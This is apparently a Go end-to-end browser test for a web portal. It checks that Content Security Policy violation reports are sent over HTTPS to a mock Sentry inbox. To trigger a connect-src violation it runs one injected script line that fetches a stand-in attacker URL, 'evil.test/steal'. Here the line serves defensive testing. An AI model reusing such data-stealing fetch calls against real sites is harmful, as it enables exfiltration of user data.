package e2e

import (
	"context"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"ghasi.io/portal/config"
)

// TestSecurity_ReportsOverTLS: over HTTPS the browser uses the Reporting API, with its other wire format, and the mirror's stricter
// policy is silent on the portal's own pages.
func TestSecurity_ReportsOverTLS(t *testing.T) {
	inbox := newSentry(t)
	cert, key, _ := certificate(t, t.TempDir())
	s := newSite(t, func(c *config.Config) {
		c.SentryDSN, c.TLSCert, c.TLSKey = inbox.dsn(), cert, key
	})
	if !strings.HasPrefix(s.url, "https://localhost:") {
		t.Fatalf("the portal is at %s", s.url)
	}
	// A browser of its own: it trusts this certificate, and sends reports at once and not within a minute.
	path, err := exec.LookPath("chromium")
	if err != nil {
		t.Fatal(err)
	}
	allocator, stop := chromedp.NewExecAllocator(context.Background(), append(chromedp.DefaultExecAllocatorOptions[:],
		chromedp.ExecPath(path), chromedp.NoSandbox, chromedp.DisableGPU, chromedp.UserDataDir(filepath.Join(t.TempDir(), "profile")),
		chromedp.Flag("ignore-certificate-errors", true), chromedp.Flag("short-reporting-delay", true))...)
	defer stop()
	shared := browser
	defer func() { browser = shared }()
	own, cancel := chromedp.NewContext(allocator)
	defer cancel()
	if err := chromedp.Do(own); err != nil {
		t.Fatal(err)
	}
	browser = own
	t.Run("tab", func(t *testing.T) { // its tab closes before the browser does
		b := newTab(t, s, look{})
		b.expect("Content Security Policy")
		b.expect("violates")
		b.expect("ERR_")
		b.signIn(customer, "/dashboard")
		for _, path := range []string{"/messages", "/send-test", "/api-keys", "/developers", "/settings"} {
			b.visit(path)
			b.see("h1")
		}
		time.Sleep(500 * time.Millisecond)
		inbox.mu.Lock()
		if len(inbox.sent) != 0 {
			t.Errorf("honest pages are reported: %s", inbox.sent)
		}
		inbox.mu.Unlock()
		eval[bool](b, `(fetch("https://evil.test/steal").catch(() => {}), true)`)
		inbox.got(t, "policy violation: connect-src", "https://evil.test", `"route":"/settings"`)
		b.visit("/settings/security")
		b.seeText("#reports", "connect-src")
		b.seeText(".grade-score", "Grade A+")
	})
}
